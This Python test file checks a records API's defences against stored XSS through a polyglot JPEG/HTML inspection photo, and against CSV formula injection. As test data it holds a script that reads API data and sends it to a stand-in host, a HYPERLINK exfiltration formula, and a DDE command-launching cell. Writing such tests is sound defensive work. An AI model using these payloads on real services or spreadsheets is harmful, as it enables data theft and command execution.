"""Attack: make the service serve a page of the attacker's choosing (stored XSS through an
inspection photo), as an inspector (who writes records) or a feed would (issue 26, item 1)."""

from __future__ import annotations

import hashlib
import io
import json

from PIL import Image
from sqlalchemy import func, select

from materials_api.identity.models import Role
from materials_api.records.models import Record
from tests.attacks.conftest import USCC
from tests.attacks.test_cross_organisation import _key, _registered

SCRIPT = b"<html><body><script>fetch('/api/v1/materials').then(r=>r.text()).then(t=>new Image().src='//x/'+t)</script>"


def _polyglot() -> bytes:
    """A real JPEG whose bytes also hold an HTML page: a browser sniffing it would run the script."""
    photo = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 10, 10)).save(photo, "JPEG")
    return photo.getvalue()[:-2] + SCRIPT + b"\xff\xd9"


def _records(runtime) -> int:
    with runtime.sessions() as s:
        return s.scalar(select(func.count()).select_from(Record))


def test_an_inspection_photo_is_served_only_as_a_picture_never_as_a_page(service, tmp_path):
    api, runtime = service
    keys = _registered(api, runtime)
    inspector = _key(runtime, "杨浦区执法大队", Role.INSPECTOR)
    enterprise = keys["enterprise"]
    before = _records(runtime)
    # Through /records or the feed the writer would choose the photo's type: refused, nothing written.
    forged = {"uscc": USCC, "kind": "inspection", "title": "现场检查记录",
              "data": {"findings": "x", "result": "passed", "photo_sha256": "ab" * 32, "photo_type": "text/html"}}
    r = api.post("/api/v1/records", json=forged, headers=inspector)
    assert r.status_code == 422 and r.json()["code"] == "inspection_needs_photo", r.text
    change = {"source_id": "insp-1", "source_version": 1, **forged, "data": json.dumps(forged["data"])}
    r = api.post("/api/v1/records/batch", json={"changes": [change]}, headers=inspector)
    assert r.status_code == 200 and r.json()["refused"] == 1, r.text
    assert r.json()["items"][0]["reason"] == "inspection_needs_photo"
    assert _records(runtime) == before

    # Through /inspections, with an HTML/JPEG polyglot that says it is a page.
    r = api.post("/api/v1/inspections", headers=inspector, files={"file": ("现场.html", _polyglot(), "text/html")},
                 data={"uscc": USCC, "result": "passed", "findings": "证照齐全"})
    assert r.status_code == 201, r.text
    photo = api.get(f"/api/v1/inspections/{r.json()['id']}/photo", headers=enterprise)
    assert photo.status_code == 200 and photo.content == _polyglot()
    assert photo.headers["content-type"] == "image/jpeg"
    assert photo.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in photo.headers["content-security-policy"]
    assert photo.headers["content-disposition"].startswith("inline; filename=\"inspection-")

    # A record whose data names a page (written before this defence, or by hand): not served.
    page = SCRIPT * 4
    (tmp_path / "page.html").write_bytes(page)
    runtime.storage.put_file("inspections", hashlib.sha256(page).hexdigest(), tmp_path / "page.html", "text/html")
    with runtime.sessions.begin() as s:
        record = s.get(Record, r.json()["id"])
        data = json.loads(record.data)
        record.data = json.dumps({**data, "photo_sha256": hashlib.sha256(page).hexdigest(), "photo_type": "text/html"})
    refused = api.get(f"/api/v1/inspections/{record.id}/photo", headers=enterprise)
    assert refused.status_code == 415 and refused.json()["code"] == "photo_not_image"
    with runtime.sessions.begin() as s:
        s.get(Record, record.id).data = json.dumps({k: v for k, v in data.items() if k != "photo_sha256"})
    missing = api.get(f"/api/v1/inspections/{record.id}/photo", headers=enterprise)
    assert missing.status_code == 422 and missing.json()["code"] == "no_photo"


def test_every_page_forbids_inline_scripts_and_framing(service):
    api, _ = service
    for path in ("/", "/scan", "/login"):
        r = api.get(path)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/html"), path
        policy = r.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy and "frame-ancestors 'none'" in policy
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "same-origin"
    # The API reference (FastAPI's Swagger UI from its CDN) renders: its own, wider policy, on it only.
    docs = api.get("/docs")
    assert docs.status_code == 200 and "https://cdn.jsdelivr.net" in docs.headers["content-security-policy"]
    assert "cdn.jsdelivr.net" not in api.get("/scan").headers["content-security-policy"]
    body = api.get("/api/v1/codes/trust-list")
    assert body.headers["x-content-type-options"] == "nosniff" and "sandbox" in body.headers["content-security-policy"]


def test_a_record_exported_to_a_spreadsheet_never_runs_as_a_formula(service, tmp_path):
    """An issuer's feed (or a careless clerk) writes a formula into a public record; an official
    opens the anonymous CSV export in Excel or WPS: every such cell stays text."""
    import csv

    from materials_api.platform.reports import write_rejections
    from materials_api.platform.spreadsheet import safe_cell

    api, runtime = service
    _registered(api, runtime)
    issuer = _key(runtime, "杨浦区市场监督管理局", Role.ISSUER, "permit.food")
    formulas = {"number": "=HYPERLINK(\"http://x.example/?\"&A1,\"查看\")", "title": "@SUM(1+1)*cmd|' /C calc'!A0"}
    r = api.post("/api/v1/records", json={"uscc": USCC, "kind": "food_business", **formulas,
                                          "data": {"items": "-2+3"}}, headers=issuer)
    assert r.status_code == 201, r.text
    export = api.get(f"/api/v1/enterprises/{USCC}/public-records", params={"format": "csv"})
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    row = next(r for r in rows if r["kind"] == "food_business")
    assert row["number"] == "'" + formulas["number"] and row["title"] == "'" + formulas["title"]
    assert not any(str(v).startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    # The same rule in the files the CLI writes (an import's rejections; reissued.csv shares it).
    path = write_rejections(tmp_path / "rejects.csv", ["line", "title"], [(1, "=1+1"), (2, "＝1+1"), (3, "plain")])
    assert [r["title"] for r in csv.DictReader(open(path, encoding="utf-8"))] == ["'=1+1", "'＝1+1", "plain"]
    assert safe_cell(-5) == -5 and safe_cell(None) is None
